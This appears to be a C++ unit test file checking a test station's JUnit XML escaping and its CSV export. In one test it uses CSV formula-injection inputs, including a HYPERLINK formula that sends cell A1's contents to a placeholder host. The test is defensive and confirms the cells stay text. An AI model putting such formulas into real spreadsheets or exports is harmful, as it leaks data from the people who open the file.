// What a run leaves for other tools: the JUnit file (one writer for the fixture and the
// station) and the CSV export, read back by a real spreadsheet engine.
#include <gtest/gtest.h>

#include "Process.h"
#include "Report.h"
#include "RunReport.h"
#include "TempDir.h"

namespace {

using station::Verdict;

station::RunRow SomeRun(Verdict verdict) {
    station::RunRow run;
    run.id = 7;
    run.board = "02:00:00:00:01:0a";
    run.station = "L1";
    run.slot = "A";
    run.plan = "line";
    run.operatorName = "José Müller";
    run.verdict = verdict;
    return run;
}

TEST(StationReport, JUnitKeepsUtf8AndReplacesOnlyWhatXmlCannotCarry) {
    EXPECT_EQ(fixture::XmlEscape("José Müller"), "José Müller");
    EXPECT_EQ(fixture::XmlEscape("a\x01"
                                 "b\xff"
                                 "c\xc3(\xef\xbf\xbe"
                                 "d\te\r"),
              "a?b?c?(?d\te&#13;");
    const station::StepRow step{7,  1,      2,   "lcd", "the operator said no: Bars?",
                                "", "FAIL", 0.5, "3C",  "3E"};
    const std::string xml = station::RunJUnit(SomeRun(Verdict::Fail), {step});
    EXPECT_NE(xml.find("value=\"José Müller\""), std::string::npos) << xml;
    EXPECT_NE(xml.find("<testcase name=\"01 lcd (try 2)\""), std::string::npos) << xml;
    EXPECT_NE(xml.find("failures=\"1\" errors=\"0\""), std::string::npos) << xml;
}

TEST(StationReport, AnErrorRunIsAnErrorInJUnit) {
    station::RunRow run = SomeRun(Verdict::Error);
    run.failedReading = "results not saved: disk full";
    const station::StepRow pass{7, 1, 1, "version", "5.0.0", "", "PASS", 0.1, "3C", "3E"};
    const std::string xml = station::RunJUnit(run, {pass});
    EXPECT_NE(xml.find("errors=\"1\""), std::string::npos) << xml;
    EXPECT_NE(xml.find("<error message=\"results not saved: disk full\""), std::string::npos)
        << xml;
    EXPECT_EQ(xml.find("<failure"), std::string::npos) << xml;
}

TEST(StationReport, CsvCellsASpreadsheetWouldEvaluateStayText) {
    const char *hostile[] = {"=1+1", "+2+3", "-4+5", "@SUM(1)"};
    std::vector<station::RunRow> runs;
    for (const char *text : hostile) {
        station::RunRow run = SomeRun(Verdict::Fail);
        run.board = text;
        run.operatorName = text;
        runs.push_back(run);
    }
    runs.back().failedReading = "=HYPERLINK(\"http://example.invalid/\"&A1,\"Open\")";
    support::TempDir dir("tvk-csv");
    const std::string in =
        dir.Write("runs.csv", station::FormatHistory("", runs, station::Format::Csv));
    const std::string out = dir.Path("back.csv");
    const support::ProcessResult converted = support::RunProcess({"ssconvert", in, out});
    ASSERT_EQ(converted.exitCode, 0) << converted.err;
    const std::string back = dir.Read("back.csv");
    for (const char *text : hostile) {
        EXPECT_NE(back.find(std::string(",") + text + ","), std::string::npos) << text << "\n"
                                                                               << back;
    }
    EXPECT_NE(back.find("HYPERLINK(\"\"http://example.invalid/"), std::string::npos) << back;
}

}  // namespace
